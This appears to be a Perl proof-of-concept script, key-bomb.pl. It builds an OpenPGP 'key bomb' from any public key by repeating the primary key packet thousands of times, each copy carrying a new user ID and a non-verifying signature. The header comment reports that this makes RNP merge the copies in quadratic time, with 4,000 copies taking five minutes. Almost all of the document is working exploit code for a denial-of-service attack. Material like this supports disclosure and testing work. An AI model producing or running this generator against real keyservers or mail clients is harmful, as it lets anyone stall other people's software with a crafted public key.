#!/usr/bin/perl
# key-bomb.pl KEY.asc COPIES [armor] > bomb
# KEY's primary key packet COPIES times, each time with a user ID of
# its own and KEY's first signature after it (which does not verify
# for that user ID): one key, repeated.  RNP merges each copy into the
# ones before it, in time that grows with the square of the copies
# (4,000 copies, 1 MB, took five minutes).  Binary OpenPGP on stdout,
# or one armored block when the third argument is "armor".  Anyone can
# make it from a public key.
use strict;
use warnings;
use MIME::Base64;

sub dearmor {
	my ($f) = @_;
	open(my $fh, '<', $f) or die "$f: $!";
	my @l = <$fh>;
	close $fh;
	my ($in, $hdr, $b64) = (0, 0, '');
	for (@l) {
		s/\r?\n$//;
		if (/^-----BEGIN/) { $in = 1; $hdr = 1; next; }
		last if /^-----END/;
		next unless $in;
		if ($hdr) { $hdr = 0 if $_ eq ''; next; }
		next if /^=/;
		$b64 .= $_;
	}
	return decode_base64($b64);
}

# [tag, whole packet] for each packet (new and old formats, definite
# lengths: what gpg --export writes)
sub packets {
	my ($b) = @_;
	my @p;
	my $i = 0;
	while ($i < length $b) {
		my $h = ord substr($b, $i, 1);
		my ($tag, $len, $j);
		if ($h & 0x40) {
			$tag = $h & 0x3f;
			my $l = ord substr($b, $i + 1, 1);
			if ($l < 192) { $len = $l; $j = $i + 2; }
			elsif ($l < 224) {
				$len = (($l - 192) << 8) +
				    ord(substr($b, $i + 2, 1)) + 192;
				$j = $i + 3;
			} else {
				$len = unpack('N', substr($b, $i + 2, 4));
				$j = $i + 6;
			}
		} else {
			$tag = ($h >> 2) & 0xf;
			my $lt = $h & 3;
			if ($lt == 0) { $len = ord substr($b, $i + 1, 1); $j = $i + 2; }
			elsif ($lt == 1) { $len = unpack('n', substr($b, $i + 1, 2)); $j = $i + 3; }
			else { $len = unpack('N', substr($b, $i + 1, 4)); $j = $i + 5; }
		}
		push @p, [$tag, substr($b, $i, $j + $len - $i)];
		$i = $j + $len;
	}
	return @p;
}

my @k = packets(dearmor($ARGV[0]));
my ($sig) = grep { $_->[0] == 2 } @k;
die "no primary key in $ARGV[0]\n" unless $k[0][0] == 6 && $sig;
my $out = '';
for my $n (1 .. $ARGV[1]) {
	my $uid = "copy $n <copy$n\@example.org>";
	$out .= $k[0][1] . chr(0xc0 | 13) . chr(length $uid) . $uid .
	    $sig->[1];
}
binmode STDOUT;
if (($ARGV[2] // '') eq 'armor') {
	print "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n",
	    encode_base64($out, '') =~ s/(.{1,64})/$1\n/gr,
	    "-----END PGP PUBLIC KEY BLOCK-----\n";
} else {
	print $out;
}
